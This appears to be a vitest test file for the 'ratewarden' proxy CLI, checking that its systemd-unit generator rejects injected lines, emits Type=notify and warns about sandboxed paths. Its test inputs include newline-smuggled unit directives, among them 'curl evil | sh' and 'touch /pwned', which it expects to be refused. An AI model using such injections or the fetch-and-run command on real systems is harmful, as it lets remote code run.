import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, describe, expect, it } from 'vitest';
import { ScratchDirs } from '../helpers/scratchDir.js';
import { cliEnv, runCli } from './operatorCli.js';
import { StartedProcesses } from './startedProcesses.js';

const dirs = new ScratchDirs();
const started = new StartedProcesses();
afterEach(async () => {
  await started.stopAll();
  dirs.removeAll();
});

const upstream = ['--upstream', 'https://api.anthropic.com'];

describe('ratewarden systemd-unit: values that would inject a line', () => {
  const injected = '/usr/bin/true\nExecStartPre=/bin/sh -c "curl evil | sh"';
  for (const args of [
    ['--user', 'ratewarden\nExecStartPre=/bin/touch /pwned'],
    ['--exec-start', injected],
    ['--', '--token-budget', '40000\nExecStartPre=/bin/touch /pwned'],
    ['--user', 'root;rm'],
  ]) {
    it(`refuses ${JSON.stringify(args)} in one line, exit 2, printing no unit`, async () => {
      const result = await runCli(['systemd-unit', ...upstream, ...args], cliEnv(dirs.make('ratewarden-unit-')));
      expect(result.exitCode).toBe(2);
      expect(result.stdout).toBe('');
      expect(result.stderr.trim().split('\n')).toHaveLength(1);
      expect(result.stderr).toMatch(/systemd-unit: (--user|--exec-start|the arguments for run) /);
    });
  }

  it('still quotes an ordinary value with spaces into one ExecStart word', async () => {
    const result = await runCli(
      ['systemd-unit', ...upstream, '--user', 'rate.warden', '--', '--scope-budgets', 'a b=1/2'],
      cliEnv(dirs.make('ratewarden-unit-')),
    );
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toContain('User=rate.warden\n');
    expect(result.stdout).toMatch(/^ExecStart=.* "a b=1\/2"$/m);
  });
});

describe('ratewarden systemd-unit: readiness and the sandbox', () => {
  it('asks for Type=notify, which the proxy answers through systemd-notify', async () => {
    const result = await runCli(['systemd-unit', ...upstream], cliEnv(dirs.make('ratewarden-unit-')));
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/^Type=notify$/m);
    expect(result.stdout).toMatch(/^NotifyAccess=all$/m);
    expect(result.stdout).toMatch(/^TimeoutStartSec=35$/m);
  });

  it("warns, on stderr, when the executable is where the unit's sandbox hides it (a temp folder, a home)", async () => {
    const env = cliEnv(dirs.make('ratewarden-unit-'));
    const inTmp = await runCli(['systemd-unit', ...upstream, '--exec-start', '/tmp/ratewarden/bin/ratewarden'], env);
    expect(inTmp.exitCode).toBe(0);
    expect(inTmp.stdout).toContain('ExecStart=/tmp/ratewarden/bin/ratewarden run');
    expect(inTmp.stderr).toMatch(
      /^warning: \/tmp\/ratewarden\/bin\/ratewarden is in a temporary folder, which the unit's PrivateTmp=yes replaces/,
    );
    const inHome = await runCli(['systemd-unit', ...upstream, '--exec-start', '/home/alice/bin/ratewarden'], env);
    expect(inHome.stderr).toMatch(/^warning: \/home\/alice\/bin\/ratewarden is under a home directory/);
    const installed = await runCli(['systemd-unit', ...upstream, '--exec-start', '/usr/local/bin/ratewarden'], env);
    expect(installed.stderr).toBe('');
  });

  it('the proxy runs systemd-notify --ready once it listens, when systemd set NOTIFY_SOCKET', async () => {
    const home = dirs.make('ratewarden-notify-');
    // A stand-in for systemd's helper, first on PATH: it writes down how it was called.
    const notified = join(home, 'notified');
    const fake = join(home, 'systemd-notify');
    writeFileSync(fake, `#!/bin/sh\nprintf '%s\\n' "$NOTIFY_SOCKET" "$@" > '${notified}'\n`);
    chmodSync(fake, 0o755);
    const env = { PATH: `${home}:${process.env.PATH ?? ''}`, NOTIFY_SOCKET: '/run/systemd/notify-test' };
    const { url } = await started.worker(home, ['--upstream', 'http://127.0.0.1:9'], { env });
    while (!existsSync(notified)) await sleep(20);
    await sleep(50);
    expect(readFileSync(notified, 'utf8').split('\n')).toEqual([
      '/run/systemd/notify-test',
      '--ready',
      `--status=ratewarden listening on ${url}`,
      '',
    ]);
  });
});
